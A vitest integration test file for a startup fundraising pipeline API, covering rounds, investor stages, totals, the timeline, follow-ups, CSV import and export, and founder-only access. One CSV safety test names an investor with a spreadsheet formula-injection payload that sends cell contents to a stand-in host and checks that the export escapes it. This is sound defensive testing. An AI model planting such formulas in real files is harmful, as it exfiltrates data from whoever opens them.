import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Client, onboardedUser } from '../helpers/client';
import { startTestApp, type TestApp } from '../helpers/test-app';

// The fundraising pipeline over HTTP with a real Postgres: a round, investors through the stages, money, follow-ups,
// the timeline, intros from the analysis, warm paths, CSV; private to the idea's founder.

let app: TestApp;
type User = Awaited<ReturnType<typeof onboardedUser>>;
let founder: User;
let other: User;
let advisor: User;
let investor: User;
let ideaId: string;
let base: string;
/** Two investors of the data that joined rounds together (for the co-investor hint). */
let pair: [string, string];

beforeAll(async () => {
  app = await startTestApp();
  [founder, other, advisor, investor] = await Promise.all([
    onboardedUser(app.url, 'founder', 'Fay Founder'),
    onboardedUser(app.url, 'founder', 'Otto Other'),
    onboardedUser(app.url, 'advisor', 'Ada Advisor'),
    onboardedUser(app.url, 'investor', 'Ivy Investor'),
  ]);
  ideaId = founder.ideaId!;
  base = `/api/ideas/${ideaId}/pipeline`;
  const row = await app.db
    .selectFrom('round_investors as a')
    .innerJoin('round_investors as b', 'b.round_id', 'a.round_id')
    .select(['a.investor_id as x', 'b.investor_id as y'])
    .whereRef('a.investor_id', '<', 'b.investor_id')
    .limit(1)
    .executeTakeFirstOrThrow();
  pair = [row.x, row.y];
});
afterAll(() => app?.close());

describe('a round and its pipeline', () => {
  it('starts empty, takes a round, and refuses a bad one naming the field', async () => {
    const empty = await founder.client.get(base);
    expect(empty.status).toBe(200);
    expect(empty.body).toMatchObject({ round: null, entries: [], totals: { committed: 0, progress: null } });
    const bad = await founder.client.request('PUT', `${base}/round`, { target_amount: 0, stage: 'seed' });
    expect(bad.status).toBe(400);
    expect(bad.body.error).toMatchObject({
      field: 'target_amount',
      message: 'Target amount must be more than 0',
    });
    const date = await founder.client.request('PUT', `${base}/round`, {
      target_amount: 1_000_000,
      stage: 'seed',
      close_date: '2026-02-31',
    });
    expect(date.body.error).toMatchObject({ field: 'close_date' });
    const ok = await founder.client.request('PUT', `${base}/round`, {
      target_amount: 1_000_000,
      stage: 'seed',
      close_date: '2027-03-31',
    });
    expect(ok.status).toBe(200);
    expect(ok.body.round).toMatchObject({
      target_amount: 1_000_000,
      stage: 'seed',
      close_date: '2027-03-31',
    });
  });

  it('adds investors from the database and by hand, once each', async () => {
    const a = await founder.client.post(`${base}/entries`, {
      investor_id: pair[0],
      source: 'matches',
      expected_amount: 250_000,
    });
    expect(a.status).toBe(201);
    expect(a.body).toMatchObject({
      investor_id: pair[0],
      stage: 'need_to_reach_out',
      expected_amount: 250_000,
    });
    const again = await founder.client.post(`${base}/entries`, { investor_id: pair[0] });
    expect(again.status).toBe(409);
    expect(again.body.error.message).toMatch(/is already in this round's pipeline$/);
    const manual = await founder.client.post(`${base}/entries`, {
      name: 'Angel Alice',
      email: 'alice@example.com',
    });
    expect(manual.status).toBe(201);
    expect(manual.body).toMatchObject({ investor_id: null, name: 'Angel Alice', email: 'alice@example.com' });
    expect((await founder.client.post(`${base}/entries`, { name: 'angel alice' })).status).toBe(409);
    const nameless = await founder.client.post(`${base}/entries`, { firm: 'X' });
    expect(nameless.body.error).toMatchObject({ field: 'name', message: 'Investor name is required' });
    expect((await founder.client.post(`${base}/entries`, { investor_id: 'no-such-investor' })).status).toBe(
      404,
    );
  });

  it('moves cards, keeps money totals and progress, marks oversubscription, and asks why for a pass', async () => {
    const { entries } = (await founder.client.get(base)).body;
    const alice = entries.find((e: { name: string }) => e.name === 'Angel Alice');
    const inv = entries.find((e: { investor_id: string }) => e.investor_id === pair[0]);

    const moved = await founder.client.patch(`${base}/entries/${alice.id}`, {
      stage: 'committed',
      position: 0,
      committed_amount: 600_000,
    });
    expect(moved.status).toBe(200);
    expect(moved.body).toMatchObject({ stage: 'committed', position: 0, committed_amount: 600_000 });
    let pipeline = (await founder.client.get(base)).body;
    expect(pipeline.totals.byStage.committed).toMatchObject({ count: 1, committed: 600_000 });
    expect(pipeline.totals.byStage.need_to_reach_out).toMatchObject({ count: 1, expected: 250_000 });
    expect(pipeline.totals.progress).toBeCloseTo(0.6, 5);
    expect(pipeline.totals.oversubscribed).toBe(false);

    await founder.client.patch(`${base}/entries/${inv.id}`, {
      stage: 'committed',
      committed_amount: 500_000,
    });
    pipeline = (await founder.client.get(base)).body;
    expect(pipeline.totals.committed).toBe(1_100_000);
    expect(pipeline.totals.oversubscribed).toBe(true);
    // Placed at the end of the column when no position is given, and the column renumbered.
    expect(
      pipeline.entries
        .filter((e: { stage: string }) => e.stage === 'committed')
        .map((e: { position: number }) => e.position),
    ).toEqual([0, 1]);

    const noReason = await founder.client.patch(`${base}/entries/${inv.id}`, { stage: 'passed' });
    expect(noReason.status).toBe(400);
    expect(noReason.body.error).toMatchObject({ field: 'pass_reason', message: 'Say why they passed' });
    expect((await founder.client.get(base)).body.totals.committed).toBe(1_100_000);
    const passed = await founder.client.patch(`${base}/entries/${inv.id}`, {
      stage: 'passed',
      pass_reason: 'Too early for them',
    });
    expect(passed.status).toBe(200);
    // A pass commits nothing.
    expect((await founder.client.get(base)).body.totals.committed).toBe(600_000);
    await founder.client.patch(`${base}/entries/${inv.id}`, { stage: 'meeting' });
  });

  it('keeps every change on the timeline, with notes', async () => {
    const { entries } = (await founder.client.get(base)).body;
    const inv = entries.find((e: { investor_id: string }) => e.investor_id === pair[0]);
    const note = await founder.client.post(`${base}/entries/${inv.id}/notes`, {
      text: 'Met at the demo day',
    });
    expect(note.status).toBe(201);
    expect(
      (await founder.client.post(`${base}/entries/${inv.id}/notes`, { text: ' ' })).body.error.field,
    ).toBe('text');
    await founder.client.patch(`${base}/entries/${inv.id}`, {
      intro_subject: 'Intro',
      intro_body: 'Hello there',
    });
    const { events } = (await founder.client.get(`${base}/entries/${inv.id}/timeline`)).body;
    const texts = events.map((e: { text: string }) => e.text);
    expect(texts).toEqual(
      expect.arrayContaining([
        'Met at the demo day',
        'Intro e-mail edited',
        'Moved from Need to reach out to Committed',
        'Moved from Committed to Passed: Too early for them',
        'Moved from Passed to Meeting',
        'Committed — → $500,000',
      ]),
    );
    expect(events[0].kind).toBe('intro_edit');
  });

  it('lists due and overdue follow-ups across the founder ideas', async () => {
    const { entries } = (await founder.client.get(base)).body;
    const inv = entries.find((e: { investor_id: string }) => e.investor_id === pair[0]);
    await founder.client.patch(`${base}/entries/${inv.id}`, { next_follow_up: '2026-11-20' });
    const due = await founder.client.get('/api/follow-ups?today=2026-11-24');
    expect(due.body.due).toEqual([
      expect.objectContaining({
        entry_id: inv.id,
        idea_id: ideaId,
        next_follow_up: '2026-11-20',
        overdue: true,
      }),
    ]);
    expect((await founder.client.get('/api/follow-ups?today=2026-11-19')).body.due).toEqual([]);
    expect((await other.client.get('/api/follow-ups?today=2026-11-24')).body.due).toEqual([]);
  });

  it('shows warm paths: interested advisors, and committed co-investors of the data', async () => {
    await advisor.client.post('/api/advisor/interests', { idea_id: ideaId, interest_level: 'interested' });
    const co = await founder.client.post(`${base}/entries`, { investor_id: pair[1] });
    await founder.client.patch(`${base}/entries/${co.body.id}`, {
      stage: 'committed',
      committed_amount: 100_000,
    });
    const { entries } = (await founder.client.get(base)).body;
    const inv = entries.find((e: { investor_id: string }) => e.investor_id === pair[0]);
    expect(inv.warm.advisors).toEqual([
      expect.objectContaining({ full_name: 'Ada Advisor', interest_level: 'interested' }),
    ]);
    expect(inv.warm.coInvestors).toEqual([expect.objectContaining({ investor_id: pair[1] })]);
    expect(inv.warm.coInvestors[0].deals).toBeGreaterThan(0);
  });
});

describe('CSV', () => {
  it('exports the pipeline and imports it back: updates what is there, adds the rest', async () => {
    const res = await fetch(`${app.url}${base}/export.csv`, {
      headers: {
        cookie: [...(founder.client as any).cookies]
          .map(([k, v]: [string, string]) => `${k}=${v}`)
          .join('; '),
      },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const csv = await res.text();
    const lines = csv.trim().split('\n');
    expect(lines[0]).toBe(
      'name,firm,email,investor_id,stage,expected_amount,committed_amount,next_follow_up,pass_reason',
    );
    expect(lines.some((l) => l.startsWith('Angel Alice,,alice@example.com,,Committed,,600000'))).toBe(true);

    const changed = csv.replace(
      'Angel Alice,,alice@example.com,,Committed,,600000',
      'Angel Alice,,alice@example.com,,Term sheet,,600000',
    );
    const imported = await founder.client.post(`${base}/import`, {
      csv: `${changed.trim()}\n"Bob, the angel",Old Fund,,,Contacted,,,,\n"Bob, the angel",Bob Fund,,,Meeting,"$50,000",,,\n`,
    });
    expect(imported.body).toEqual({ added: 1, updated: lines.length - 1, errors: [] });
    const { entries } = (await founder.client.get(base)).body;
    expect(entries.find((e: { name: string }) => e.name === 'Angel Alice').stage).toBe('term_sheet');
    expect(entries.find((e: { name: string }) => e.name === 'Bob, the angel')).toMatchObject({
      firm: 'Bob Fund',
      stage: 'meeting',
      expected_amount: 50_000,
    });
  });

  it('changes nothing when a row is wrong, and says which line', async () => {
    const before = (await founder.client.get(base)).body.entries.length;
    const res = await founder.client.post(`${base}/import`, {
      csv: 'name,stage,expected_amount\nCarol,Meeting,100\nDan,Lunch,5\n',
    });
    expect(res.body).toEqual({
      added: 0,
      updated: 0,
      errors: [{ line: 3, message: 'stage "Lunch" is not a pipeline stage' }],
    });
    const pass = await founder.client.post(`${base}/import`, { csv: 'name,stage\nEve,Passed\n' });
    expect(pass.body.errors).toEqual([{ line: 2, message: 'pass_reason is required for a pass' }]);
    const garbage = await founder.client.post(`${base}/import`, { csv: 'name,stage\n"unclosed,Meeting\n' });
    expect(garbage.body.errors[0].message).toMatch(/^Not a readable CSV file/);
    expect((await founder.client.get(base)).body.entries.length).toBe(before);
  });
});

describe('CSV safety (issue 32)', () => {
  it('exports an investor named as a formula as text, and keeps fields a blank cell would have cleared', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const added = await founder.client.post(`${base}/entries`, {
      name: evil,
      stage: 'contacted',
      expected_amount: 75_000,
    });
    expect(added.status).toBe(201);
    const dated = await founder.client.patch(`${base}/entries/${added.body.id}`, {
      next_follow_up: '2026-12-24',
    });
    expect(dated.status).toBe(200);
    const res = await fetch(`${app.url}${base}/export.csv`, {
      headers: { cookie: founder.client.cookieHeader() },
    });
    const line = (await res.text()).split('\n').find((l) => l.includes('HYPERLINK'))!;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
    // Re-importing a file of names and stages alone (the follow-up and amount cells blank) clears nothing.
    const imported = await founder.client.post(`${base}/import`, {
      csv: `name,stage,next_follow_up,expected_amount\n"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Meeting,,\n`,
    });
    expect(imported.body).toEqual({ added: 0, updated: 1, errors: [] });
    const entry = (await founder.client.get(base)).body.entries.find(
      (e: { name: string }) => e.name === evil,
    );
    expect(entry).toMatchObject({ stage: 'meeting', next_follow_up: '2026-12-24', expected_amount: 75_000 });
  });

  it('reports every error of a file at once, unknown investors included', async () => {
    const res = await founder.client.post(`${base}/import`, {
      csv: 'name,investor_id,stage,expected_amount\nA,,Lunch,x\nB,no-such-one,,\nC,,Passed,\n',
    });
    expect(res.body.errors).toEqual([
      { line: 2, message: 'stage "Lunch" is not a pipeline stage' },
      { line: 2, message: 'expected_amount must be whole dollars' },
      { line: 4, message: 'pass_reason is required for a pass' },
    ]);
    const unknown = await founder.client.post(`${base}/import`, {
      csv: 'name,investor_id\nB,no-such-one\nC,nor-this-one\n',
    });
    expect(unknown.body.errors).toEqual([
      { line: 2, message: 'investor_id no-such-one is not in the investor database' },
      { line: 3, message: 'investor_id nor-this-one is not in the investor database' },
    ]);
  });
});

describe('privacy', () => {
  it('is the founder alone: other founders, advisors, investors and visitors are refused everywhere', async () => {
    const { entries } = (await founder.client.get(base)).body;
    const entry = entries[0].id;
    const routes: [string, string, unknown?][] = [
      ['GET', base],
      ['PUT', `${base}/round`, { target_amount: 5, stage: 'seed' }],
      ['POST', `${base}/entries`, { name: 'Mallory' }],
      ['PATCH', `${base}/entries/${entry}`, { stage: 'passed', pass_reason: 'x' }],
      ['DELETE', `${base}/entries/${entry}`],
      ['POST', `${base}/entries/${entry}/notes`, { text: 'x' }],
      ['GET', `${base}/entries/${entry}/timeline`],
      ['GET', `${base}/export.csv`],
      ['POST', `${base}/import`, { csv: 'name\nMallory\n' }],
    ];
    for (const [method, path, body] of routes) {
      for (const u of [other, advisor, investor]) {
        const res = await u.client.request(method, path, body);
        expect({ method, path, status: res.status }).toEqual({ method, path, status: 403 });
      }
      expect((await new Client(app.url).request(method, path, body)).status).toBe(401);
    }
    const after = (await founder.client.get(base)).body;
    expect(after.entries.map((e: { id: string; stage: string }) => [e.id, e.stage])).toEqual(
      entries.map((e: { id: string; stage: string }) => [e.id, e.stage]),
    );
    expect(after.round.target_amount).toBe(1_000_000);
  });

  it('lets the founder remove an investor', async () => {
    const { entries } = (await founder.client.get(base)).body;
    const res = await founder.client.del(`${base}/entries/${entries[0].id}`);
    expect(res.status).toBe(204);
    expect((await founder.client.del(`${base}/entries/${entries[0].id}`)).status).toBe(404);
  });
});
